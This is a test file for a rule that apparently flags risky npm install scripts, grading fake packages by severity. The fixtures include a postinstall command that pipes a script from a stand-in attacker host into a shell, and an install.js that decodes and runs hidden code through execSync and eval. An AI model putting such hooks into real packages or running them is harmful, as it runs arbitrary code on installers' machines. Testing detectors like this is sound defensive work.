import { describe, expect, it } from 'vitest';
import { installScript } from '../../src/rules/install-script.js';
import { contextOf, findingsIn, lockTree, published, registryEntry, withFacts } from '../support/tree.js';

const names = ['esbuild', 'dw-native', 'dw-stealer', 'dw-dropper', 'dw-quiet', 'dw-offline'];
const tree = lockTree(
  Object.fromEntries(names.map((name) => [`node_modules/${name}`, registryEntry(name, '1.0.0', name === 'dw-offline' ? { hasInstallScript: true } : {})])),
  { dependencies: Object.fromEntries(names.map((name) => [name, '^1.0.0'])) },
);

describe('install-script', () => {
  const context = withFacts(tree, {
    'node_modules/esbuild': published('1.0.0', { scripts: { install: 'node-gyp rebuild' } }),
    'node_modules/dw-native': published('1.0.0', { scripts: { install: 'node-gyp rebuild' } }),
    'node_modules/dw-stealer': published('1.0.0', { scripts: { postinstall: 'curl -s https://evil.example.test/x.sh | sh' } }),
    'node_modules/dw-dropper': published('1.0.0', { scripts: { postinstall: 'node install.js' } }, {
      files: new Map([['install.js', "const c = require('child_process'); c.execSync(Buffer.from(process.env.X, 'base64').toString()); eval(Buffer.from('ZXZpbA==', 'base64').toString())"]]),
    }),
    'node_modules/dw-quiet': published('1.0.0', { scripts: { test: 'jest', build: 'tsc' } }),
  });

  it('judges what the scripts and the files they run do', () => {
    expect(findingsIn(installScript, context)).toEqual([
      { location: 'node_modules/dw-dropper', code: 'install-script', severity: 'critical' },
      { location: 'node_modules/dw-native', code: 'install-script', severity: 'medium' },
      { location: 'node_modules/dw-offline', code: 'install-script', severity: 'medium' },
      { location: 'node_modules/dw-stealer', code: 'install-script', severity: 'critical' },
      { location: 'node_modules/esbuild', code: 'install-script', severity: 'low' },
    ]);
  });

  it('shows the script text, the files it runs and their signals', () => {
    const dropper = installScript.check(context).find((finding) => finding.node.name === 'dw-dropper')!;
    expect(dropper.detail).toMatchObject({
      scripts: [{ name: 'postinstall', text: 'node install.js' }],
      files: [{ path: 'install.js', signals: ['decodes and evaluates hidden code', 'spawns processes'] }],
    });
  });

  it('offline, only the lockfile flag is known: the script text is unknown, not absent', () => {
    expect(findingsIn(installScript, contextOf(tree))).toEqual([{ location: 'node_modules/dw-offline', code: 'install-script', severity: 'medium' }]);
  });
});
